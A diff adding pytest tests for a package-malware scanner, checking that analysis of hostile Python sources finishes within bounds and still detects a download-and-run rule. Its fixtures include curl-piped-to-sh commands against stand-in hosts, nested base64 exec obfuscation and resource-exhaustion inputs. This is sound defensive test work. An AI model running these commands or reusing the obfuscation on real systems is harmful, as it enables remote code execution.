@@ -1,0 +1,105 @@
+"""Hostile sources: each ends within its bound, with what was seen kept, and never with a traceback."""
+
+from __future__ import annotations
+
+import base64
+import time
+
+import pytest
+
+from scanner.code.analysis import Analysis, analyse
+from scanner.code.limits import Limits
+from scanner.code.source import SourceFile
+from scanner.model.finding import PackageRef
+
+PAYLOAD = "import os\nos.system('curl https://drop.invalid/x | sh')\n"
+
+
+def analysed(code: str | bytes, path: str = "package/__init__.py", **limits: int) -> Analysis:
+    data = code.encode("utf-8", "surrogatepass") if isinstance(code, str) else code
+    return analyse(
+        [SourceFile(path, data)], kind="wheel", package=PackageRef("example", "1.0"), limits=Limits(**limits)
+    )
+
+
+def nested_base64(rounds: int) -> str:
+    text = PAYLOAD
+    for _ in range(rounds):
+        text = f"import base64\nexec(base64.b64decode({base64.b64encode(text.encode()).decode()!r}))"
+    return text
+
+
+HOSTILE = {
+    "a literal of 50 MB": lambda: PAYLOAD + "X = '" + "a" * 50_000_000 + "'\n",
+    "100,000 nested brackets": lambda: PAYLOAD + "X = " + "(" * 100_000 + ")" * 100_000 + "\n",
+    "a chain of 50,000 additions": lambda: PAYLOAD + "X = " + " + ".join(["'a'"] * 50_000) + "\nexec(X)\n",
+    "30 nested base64 layers": lambda: PAYLOAD + nested_base64(20),
+    "a quine": lambda: PAYLOAD + "s = 'exec(s)'\nexec(s)\n",
+    "exponential doubling": lambda: PAYLOAD + "s = 'ab'\n" + "s = s + s\n" * 200 + "exec(s)\n",
+    "a huge repetition": lambda: PAYLOAD + "exec('a' * 10 ** 12)\nexec([0] * 10 ** 12)\n",
+    "a huge power": lambda: PAYLOAD + "exec(str(9 ** 9 ** 9))\nexec(chr(1 << 99999999))\n",
+    "a huge width": lambda: PAYLOAD + "exec('%999999999d' % 1)\nexec('{:999999999}'.format(1))\n",
+    "an endless loop": lambda: PAYLOAD + "i = 0\nwhile i < 10 ** 9:\n    i += 1\nexec(str(i))\n",
+    "endless recursion": lambda: PAYLOAD + "def f(x):\n    return f(x + 1)\nexec(f(1))\n",
+    "functions that double": lambda: (
+        PAYLOAD
+        + "".join(f"def f{n}():\n    f{n + 1}()\n    f{n + 1}()\n" for n in range(30))
+        + "def f30():\n    pass\nf0()\n"
+    ),
+    "NUL bytes": lambda: PAYLOAD + "X = 1\0\0\nY = '\0'\n",
+    "deep unary": lambda: PAYLOAD + "X = " + "-" * 5000 + "1\n",
+    "deep attributes": lambda: PAYLOAD + "X = a" + ".b" * 20_000 + "\n",
+    "deep if": lambda: PAYLOAD + "".join("  " * n + "if x:\n" for n in range(90)) + "  " * 90 + "pass\n",
+}
+
+
+@pytest.mark.parametrize("name", HOSTILE)
+def test_hostile_source_ends_and_keeps_what_was_seen(name: str) -> None:
+    started = time.process_time()
+    analysis = analysed(HOSTILE[name]())
+    assert time.process_time() - started < 30
+    if name != "a literal of 50 MB":
+        assert "shell-download-and-run" in {one.rule for one in analysis.findings} or analysis.coverage
+
+
+def test_a_file_past_the_bound_is_said_to_be_seen_in_part() -> None:
+    analysis = analysed(HOSTILE["a literal of 50 MB"]())
+    assert [one for one in analysis.coverage if one.status == "not-checked"]
+
+
+def test_steps_run_out_with_coverage() -> None:
+    analysis = analysed(
+        PAYLOAD + "x = [i ^ 3 for i in range(60000)]\nexec(bytes(x))\n", max_steps=2000, max_import_steps=2000
+    )
+    assert any("evaluation steps" in one.reason for one in analysis.coverage)
+    assert "shell-download-and-run" in {one.rule for one in analysis.findings}
+
+
+@pytest.mark.parametrize(
+    "code",
+    [
+        "# -*- coding: rot13 -*-\nimport os\n",
+        "# coding: no-such-codec\nimport os\n",
+        b"\xff\xfe" + PAYLOAD.encode("utf-16-le"),
+        b"\xef\xbb\xbf" + PAYLOAD.encode(),
+        b"# coding: latin-1\n" + PAYLOAD.encode() + b"x = '\xe9'\n",
+        b"\x80\x81\x82 not text \xff",
+    ],
+)
+def test_odd_encodings(code: str | bytes) -> None:
+    analysis = analysed(code)
+    assert analysis.verdict in {"clean", "malicious"}
+
+
+def test_python_2_is_translated_and_said_so() -> None:
+    analysis = analysed(
+        "import os\nprint 'installing'\ntry:\n    os.system('curl http://198.18.0.7/x | sh')\nexcept Exception, e:\n    print e\n"
+    )
+    assert analysis.verdict == "malicious"
+    assert any("does not parse as Python 3" in one.reason for one in analysis.coverage)
+
+
+def test_a_truncated_file_is_analysed_as_far_as_it_goes() -> None:
+    analysis = analysed(PAYLOAD + "def f(:\n    x = [\n")
+    assert "shell-download-and-run" in {one.rule for one in analysis.findings}
+    assert analysis.coverage
